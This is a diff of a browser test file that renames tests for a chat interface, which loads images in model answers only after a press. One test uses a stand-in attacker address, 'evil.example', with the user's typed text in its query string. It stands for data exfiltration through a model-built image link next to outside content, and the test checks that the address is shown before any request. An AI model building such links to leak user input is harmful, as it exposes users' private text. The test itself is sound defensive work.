@@ -37,7 +37,7 @@ async function answered(
   return { screen, asked };
 }
 
-test('a picture is fetched at a press alone, named by its host, and goes at another', async () => {
+test('invariant: a picture in an answer is fetched only after a press, and freed when hidden', async () => {
   const { screen, asked } = await answered(`A cat: ![a red dot](${cat})`);
   const button = screen.getByRole('button', showIt);
   await expect.element(button).toBeVisible();
@@ -65,7 +65,7 @@ test.for([
   { problem: 'refused-address' as const, says: /over https from the public internet alone/ },
   { problem: 'wrong-type' as const, says: /no PNG, JPEG, GIF or WebP/ },
   { problem: 'large' as const, says: /larger than 10 MB/ },
-])('where it is $problem a sentence says so, and the link stays', async ({ problem, says }) => {
+])('a picture that is $problem gets a sentence, and the link stays', async ({ problem, says }) => {
   const { screen } = await answered(`![a](${cat})`, { fetched: { ok: false, problem } });
   await screen.getByRole('button', showIt).click();
   await expect.element(screen.getByText(says)).toBeVisible();
@@ -74,7 +74,7 @@ test.for([
   await expect.element(screen.getByRole('img')).not.toBeInTheDocument();
 });
 
-test('what only begins like a picture is said to be damaged', async () => {
+test('a file that only starts like a picture is reported as damaged', async () => {
   const cut = bytes.slice(0, 40);
   const { screen } = await answered(`![a](${cat})`, {
     fetched: { ok: true, bytes: cut, type: 'image/png' },
@@ -83,7 +83,7 @@ test('what only begins like a picture is said to be damaged', async () => {
   await expect.element(screen.getByText(/cannot draw it/)).toBeVisible();
 });
 
-test('an address that the model put together beside outside text is shown whole before it is asked', async () => {
+test('beside outside text, an address made by the model is shown in full before the request', async () => {
   const url = 'https://evil.example/x.png?q=what-you-typed';
   const { screen, asked } = await answered(`![a](${url}) ![b](https://found.example/a.png)`, {
     isOutside: true,
@@ -103,7 +103,7 @@ test('an address that the model put together beside outside text is shown whole 
   expect(asked).toEqual([url, 'https://found.example/a.png']);
 });
 
-test('a picture that stands in the text itself waits for a press too', async () => {
+test('an embedded picture waits for a press too', async () => {
   const { screen, asked } = await answered(`Dot: ![a dot](data:image/png;base64,${pixel})`);
   await expect.element(screen.getByText('Dot: a dot')).toBeVisible();
   await expect.element(screen.getByRole('img')).not.toBeInTheDocument();
@@ -119,7 +119,7 @@ test('a picture in a link has its button beside the link', async () => {
   expect(button.element().closest('a')).toBeNull();
 });
 
-test('when an answer was written, and by what, is said when it is asked for', async () => {
+test('a button shows when an answer was written and by which model', async () => {
   const { screen } = await answered('Hello.');
   await expect.element(screen.getByText('Written', { exact: true })).not.toBeInTheDocument();
   const button = screen.getByRole('button', { name: 'When this was written' });
